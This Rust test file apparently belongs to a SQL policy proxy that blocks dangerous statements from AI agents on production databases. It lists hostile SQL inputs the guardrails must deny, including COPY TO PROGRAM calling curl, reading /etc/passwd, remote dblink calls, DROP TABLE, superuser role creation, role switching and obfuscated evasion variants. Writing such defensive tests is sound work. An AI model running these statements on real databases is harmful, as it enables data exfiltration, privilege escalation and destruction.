//! Decisions for real statements through the real analyzer.

use std::collections::BTreeMap;

use crate::*;

fn policy(rules: &str, guardrails: bool) -> Policy {
    let file: RuleFile = toml::from_str(rules).unwrap();
    let settings = PolicySettings {
        guardrails,
        guardrails_exempt: toml::from_str("groups = [\"dba\"]").unwrap(),
        ..PolicySettings::default()
    };
    Policy::new(
        &settings,
        vec![RuleSource {
            origin: "test.toml".into(),
            rules: file.rules,
        }],
    )
    .unwrap()
}

fn production() -> BTreeMap<String, String> {
    BTreeMap::from([("environment".into(), "production".into())])
}

fn decide(
    policy: &Policy,
    who: (&str, &[&str], &str),
    labels: &BTreeMap<String, String>,
    default: Action,
    sql: &str,
) -> (Action, Option<String>) {
    let groups: Vec<String> = who.1.iter().map(|g| g.to_string()).collect();
    let session = policy.for_session(
        &Subject {
            name: who.0,
            groups: &groups,
            kind: who.2,
        },
        &Target {
            name: "prod",
            labels,
            default,
        },
    );
    let analysis = vigil_sql::analyze_uncached(sql).unwrap();
    let decision = session.decide(&analysis);
    (decision.action, decision.rule_id().map(str::to_owned))
}

const AGENT: (&str, &[&str], &str) = ("agent", &["ai-agents"], "agent");
const ALICE: (&str, &[&str], &str) = ("alice", &["dba"], "person");

fn guarded(sql: &str) -> (Action, Option<String>) {
    decide(&policy("", true), AGENT, &production(), Action::Allow, sql)
}

#[track_caller]
fn denied_by(sql: &str, rule: &str) {
    assert_eq!(guarded(sql), (Action::Deny, Some(rule.to_owned())), "{sql}");
}

#[test]
fn guardrails_refuse_what_the_issue_lists() {
    denied_by("DROP TABLE users", "guardrail.drop");
    denied_by("truncate users", "guardrail.drop");
    denied_by("DELETE FROM users", "guardrail.delete-without-where");
    denied_by(
        "UPDATE users SET name = 'x'",
        "guardrail.update-without-where",
    );
    denied_by(
        "ALTER SYSTEM SET work_mem = '1GB'",
        "guardrail.alter-system",
    );
    denied_by(
        "COPY users TO PROGRAM 'curl evil'",
        "guardrail.copy-program",
    );
    denied_by(
        "COPY users FROM PROGRAM 'cat /etc/passwd'",
        "guardrail.copy-program",
    );
    denied_by("COPY users TO '/tmp/x'", "guardrail.copy-server-file");
    denied_by(
        "SELECT pg_read_file('/etc/passwd')",
        "guardrail.server-files",
    );
    denied_by(
        "SELECT pg_catalog.pg_read_binary_file('x')",
        "guardrail.server-files",
    );
    denied_by("SELECT * FROM pg_ls_dir('.')", "guardrail.server-files");
    denied_by("SELECT lo_import('/etc/passwd')", "guardrail.server-files");
    denied_by("SELECT lo_export(1, '/tmp/x')", "guardrail.server-files");
    denied_by(
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "guardrail.remote-connections",
    );
    denied_by(
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
        "guardrail.remote-connections",
    );
    denied_by(
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
        "guardrail.foreign-servers",
    );
    denied_by("SET ROLE postgres", "guardrail.identity-switch");
    denied_by(
        "SET SESSION AUTHORIZATION postgres",
        "guardrail.identity-switch",
    );
    denied_by("GRANT ALL ON users TO public", "guardrail.privileges");
    denied_by("REVOKE SELECT ON users FROM bob", "guardrail.privileges");
    denied_by("CREATE ROLE evil SUPERUSER", "guardrail.privileges");
    denied_by("ALTER ROLE agent SUPERUSER", "guardrail.privileges");
    denied_by(
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        "guardrail.do",
    );
    denied_by("CALL cleanup()", "guardrail.unknown");
    denied_by("EXECUTE p", "guardrail.unknown");
}

#[test]
fn guardrails_let_ordinary_work_through() {
    for sql in [
        "SELECT * FROM users WHERE id = 1",
        "INSERT INTO users VALUES (1)",
        "UPDATE users SET name = 'x' WHERE id = 1",
        "DELETE FROM users WHERE id = 1",
        "BEGIN; SELECT 1; COMMIT",
        "COPY users TO STDOUT",
        "CREATE TABLE t (a int)",
        "SET statement_timeout = 1000",
        "SHOW search_path",
    ] {
        assert_eq!(guarded(sql).0, Action::Allow, "{sql}");
    }
}

#[test]
fn attacks_on_the_guardrails() {
    // Case, whitespace, comments, quoting.
    denied_by("dRoP\n\t/* hi */ TaBlE \"users\"", "guardrail.drop");
    denied_by("DROP TABLE U&\"\\0075sers\"", "guardrail.drop");
    // A DROP hidden behind a harmless statement stops the whole text.
    denied_by("SELECT 1; DROP TABLE users; SELECT 2", "guardrail.drop");
    // DELETE in a CTE, in COPY, in PREPARE, in EXPLAIN ANALYZE.
    denied_by(
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "guardrail.delete-without-where",
    );
    denied_by(
        "COPY (DELETE FROM users RETURNING *) TO STDOUT",
        "guardrail.delete-without-where",
    );
    denied_by(
        "PREPARE p AS DELETE FROM users",
        "guardrail.delete-without-where",
    );
    denied_by(
        "EXPLAIN ANALYZE DELETE FROM users",
        "guardrail.delete-without-where",
    );
    // CREATE RULE that deletes everything when it fires.
    denied_by(
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users",
        "guardrail.delete-without-where",
    );
    // Schema-qualified server-file functions.
    denied_by(
        "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
        "guardrail.server-files",
    );
    // SET role spelled as a parameter.
    denied_by("SET role = 'postgres'", "guardrail.identity-switch");
    denied_by("SET LOCAL ROLE postgres", "guardrail.identity-switch");
}

#[test]
fn exempt_groups_and_other_databases() {
    let policy = policy("", true);
    assert_eq!(
        decide(
            &policy,
            ALICE,
            &production(),
            Action::Allow,
            "DROP TABLE users"
        )
        .0,
        Action::Allow
    );
    let staging = BTreeMap::from([("environment".into(), "staging".into())]);
    assert_eq!(
        decide(&policy, AGENT, &staging, Action::Allow, "DROP TABLE users").0,
        Action::Allow
    );
}

#[test]
fn parser_integrity_is_enforced_for_everyone() {
    let policy = policy("", false);
    let integrity = |sql: &str| decide(&policy, ALICE, &production(), Action::Allow, sql);
    let refused = (Action::Deny, Some("vigil.parser-integrity".to_owned()));
    assert_eq!(integrity("SET standard_conforming_strings = off"), refused);
    assert_eq!(
        integrity("SET standard_conforming_strings TO false"),
        refused
    );
    assert_eq!(integrity("SET client_encoding = 'SJIS'"), refused);
    assert_eq!(integrity("SET NAMES 'GBK'"), refused);
    assert_eq!(integrity("SET client_encoding = 'Shift_JIS_2004'"), refused);
    assert_eq!(integrity("SET client_encoding = DEFAULT").0, Action::Allow);
    assert_eq!(integrity("SET search_path = public, pg_catalog"), refused);
    assert_eq!(
        integrity("SELECT set_config('search_path', 'evil,pg_catalog', false)"),
        refused
    );
    assert_eq!(
        integrity("SET search_path = pg_catalog, public").0,
        Action::Allow
    );
    assert_eq!(
        integrity("SELECT set_config('standard_conforming_strings', 'off', false)"),
        refused
    );
    assert_eq!(
        integrity("SELECT set_config(name, 'off', false) FROM x"),
        refused
    );
    assert_eq!(
        integrity("SELECT set_config('standard_conforming_strings', v, false) FROM x"),
        refused
    );
    // A bound or computed path could put pg_catalog anywhere.
    assert_eq!(
        integrity("SELECT set_config('search_path', $1, false)"),
        refused
    );
    for sql in [
        "SET standard_conforming_strings = on",
        "SET client_encoding = 'UTF8'",
        "SET client_encoding = 'LATIN1'",
        "SET NAMES 'SQL_ASCII'",
        "RESET client_encoding",
        "RESET ALL",
        "SELECT set_config('search_path', '', false)",
        "SET search_path = public",
    ] {
        assert_eq!(integrity(sql).0, Action::Allow, "{sql}");
    }
}

#[test]
fn precedence_and_defaults() {
    let rules = r#"
        [[rules]]
        id = "reads-ok"
        when = { classes = ["read"] }
        action = "allow"

        [[rules]]
        id = "agents-review-writes"
        when = { identity_kinds = ["agent"], classes = ["write"] }
        action = "review"

        [[rules]]
        id = "no-salaries"
        when = { relations = ["hr.salaries"] }
        unless = { groups = ["dba"] }
        action = "deny"
        message = "salaries are off limits"

        [[rules]]
        id = "public-writes"
        when = { relations = ["public.*"], classes = ["write"] }
        action = "allow"
    "#;
    let policy = policy(rules, false);
    let labels = BTreeMap::new();
    let deny_default = |who, sql| decide(&policy, who, &labels, Action::Deny, sql);
    assert_eq!(
        deny_default(AGENT, "SELECT 1"),
        (Action::Allow, Some("reads-ok".into()))
    );
    // Default deny: a statement no rule matches.
    assert_eq!(
        deny_default(ALICE, "CREATE TABLE t (a int)"),
        (Action::Deny, None)
    );
    // Deny beats allow: the read of hr.salaries matches both.
    assert_eq!(
        deny_default(AGENT, "SELECT * FROM hr.salaries"),
        (Action::Deny, Some("no-salaries".into()))
    );
    // Unqualified: hr is not on the default search_path, so it is not hr's
    // (after a SET search_path it may be; see the glob tests).
    assert_eq!(
        deny_default(AGENT, "SELECT * FROM salaries"),
        (Action::Allow, Some("reads-ok".into()))
    );
    assert_eq!(
        deny_default(ALICE, "SELECT * FROM hr.salaries").0,
        Action::Allow
    );
    // Review beats allow.
    assert_eq!(
        deny_default(AGENT, "INSERT INTO public.t VALUES (1)"),
        (Action::Review, Some("agents-review-writes".into()))
    );
    assert_eq!(
        deny_default(ALICE, "INSERT INTO public.t VALUES (1)").0,
        Action::Allow
    );
    // On the default search_path an unqualified name is public's.
    assert_eq!(
        deny_default(ALICE, "INSERT INTO t VALUES (1)").0,
        Action::Allow
    );
    // The strongest statement decides the text.
    assert_eq!(
        deny_default(AGENT, "SELECT 1; INSERT INTO public.t VALUES (1)").0,
        Action::Review
    );
}

#[test]
fn typos_are_errors_not_silent_rules() {
    for (text, needle) in [
        (
            "[[rules]]\nid = \"x\"\nwhen = { kinds = [\"delet\"] }\naction = \"deny\"",
            "unknown statement kind",
        ),
        (
            "[[rules]]\nid = \"x\"\nwhen = { classes = [\"writes\"] }\naction = \"deny\"",
            "unknown class",
        ),
        (
            "[[rules]]\nid = \"x\"\nwhen = { kind = [\"delete\"] }\naction = \"deny\"",
            "unknown field",
        ),
        (
            "[[rules]]\nid = \"x\"\naction = \"block\"",
            "unknown variant",
        ),
        (
            "[[rules]]\nid = \"x\"\nwhen = { properties = { where = false } }\naction = \"deny\"",
            "unknown field",
        ),
    ] {
        let error = toml::from_str::<RuleFile>(text).unwrap_err();
        assert!(error.to_string().contains(needle), "{text}: {error}");
    }
    let twice: RuleFile = toml::from_str(
        "[[rules]]\nid = \"x\"\naction = \"deny\"\n[[rules]]\nid = \"x\"\naction = \"allow\"",
    )
    .unwrap();
    let problems = Policy::new(
        &PolicySettings::default(),
        vec![RuleSource {
            origin: "p.toml".into(),
            rules: twice.rules,
        }],
    )
    .unwrap_err();
    assert_eq!(problems[0].key, "rules[1].id");
}

#[test]
fn explain_reads_well() {
    let policy = policy("", true);
    let groups = vec!["ai-agents".to_owned()];
    let labels = production();
    let session = policy.for_session(
        &Subject {
            name: "agent",
            groups: &groups,
            kind: "agent",
        },
        &Target {
            name: "demo",
            labels: &labels,
            default: Action::Allow,
        },
    );
    let analysis =
        vigil_sql::analyze_uncached("/* ticket='OPS-12' */ SELECT 1; DROP TABLE public.users")
            .unwrap();
    let text = session.explain(&analysis).to_string();
    assert!(
        text.contains("statement 2 of 2: DROP TABLE public.users"),
        "{text}"
    );
    assert!(
        text.contains("deny guardrail.drop (built-in guardrail pack)"),
        "{text}"
    );
    assert!(
        text.contains("decision: DENY by rule guardrail.drop (statement 2)"),
        "{text}"
    );
    assert!(text.contains("ticket=\"OPS-12\""), "{text}");
}

#[test]
fn a_rule_that_masks_must_allow_and_be_about_sessions_only() {
    let toml = r#"
[[rules]]
id = "masks-per-statement"
when = { kinds = ["select"] }
action = "allow"
mask = ["shop.customers.ssn"]

[[rules]]
id = "masks-and-denies"
action = "deny"
mask = ["shop.customers.ssn"]

[[rules]]
id = "bad-name"
action = "allow"
mask = ["customers.ssn"]

[[rules]]
id = "fine"
when = { groups = ["ai-agents"] }
action = "allow"
mask = ["shop.customers.ssn"]
"#;
    let file: RuleFile = toml::from_str(toml).unwrap();
    let problems = Policy::new(
        &PolicySettings::default(),
        vec![RuleSource {
            origin: "t.toml".into(),
            rules: file.rules,
        }],
    )
    .unwrap_err();
    let keys: Vec<&str> = problems.iter().map(|p| p.key.as_str()).collect();
    assert_eq!(
        keys,
        ["rules[0].mask", "rules[1].mask", "rules[2].mask"],
        "{problems:?}"
    );
}

#[test]
fn a_locked_role_cannot_be_changed_by_any_form_of_the_switch() {
    let policy = policy("", false);
    let groups = vec!["ai-agents".to_owned()];
    let session = |locked: bool| {
        let session = policy.for_session(
            &Subject {
                name: "agent",
                groups: &groups,
                kind: "agent",
            },
            &Target {
                name: "prod",
                labels: &production(),
                default: Action::Allow,
            },
        );
        match locked {
            true => session.with_role_lock(),
            false => session,
        }
    };
    let (locked, open) = (session(true), session(false));
    let decide = |session: &crate::SessionPolicy, sql: &str| {
        let analysis = vigil_sql::analyze_uncached(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
        let decision = session.decide(&analysis);
        (decision.action, decision.rule_id().map(str::to_owned))
    };
    let refused = (Action::Deny, Some("vigil.role-lock".to_owned()));
    for sql in [
        "SET ROLE postgres",
        "SET SESSION ROLE postgres",
        "SET LOCAL ROLE postgres",
        "set role to 'postgres'",
        "SET ROLE NONE",
        "RESET ROLE",
        "SET role TO DEFAULT",
        "SET SESSION AUTHORIZATION postgres",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET SESSION AUTHORIZATION",
        "SET session_authorization = 'postgres'",
        "SELECT set_config('role', 'postgres', false)",
        "SELECT pg_catalog.set_config('ROLE', 'none', true)",
        "SELECT set_config('session_authorization', 'postgres', false)",
        "SELECT 1 FROM (SELECT set_config('role', 'postgres', false)) s",
        "WITH x AS (SELECT set_config('role', $1, false)) SELECT * FROM x",
        "PREPARE p AS SELECT set_config('role', 'postgres', false)",
        "EXPLAIN ANALYZE SELECT set_config('role', 'postgres', false)",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
        "ALTER FUNCTION f() SET role = postgres",
        "ALTER ROLE vigil_agent SET role = postgres",
        "ALTER DATABASE prod SET session_authorization = postgres",
        "DISCARD ALL",
        "discard /* everything */ all",
        "SELECT 1; DISCARD ALL",
    ] {
        assert_eq!(decide(&locked, sql), refused, "{sql}");
    }
    for sql in [
        "SET search_path = pg_catalog, shop",
        "RESET ALL",
        "DISCARD PLANS",
        "DISCARD TEMP",
        "DISCARD SEQUENCES",
        "SELECT current_user, session_user",
        "SELECT set_config('application_name', 'x', false)",
        "SHOW role",
    ] {
        assert_eq!(decide(&locked, sql).0, Action::Allow, "{sql}");
    }
    // A setting named only when it runs is refused for everyone.
    assert_eq!(
        decide(
            &locked,
            "SELECT set_config(n, 'postgres', false) FROM (VALUES ('role')) v(n)"
        )
        .0,
        Action::Deny
    );
    assert_eq!(decide(&open, "SET ROLE postgres").0, Action::Allow);
    assert_eq!(decide(&open, "DISCARD ALL").0, Action::Allow);
}
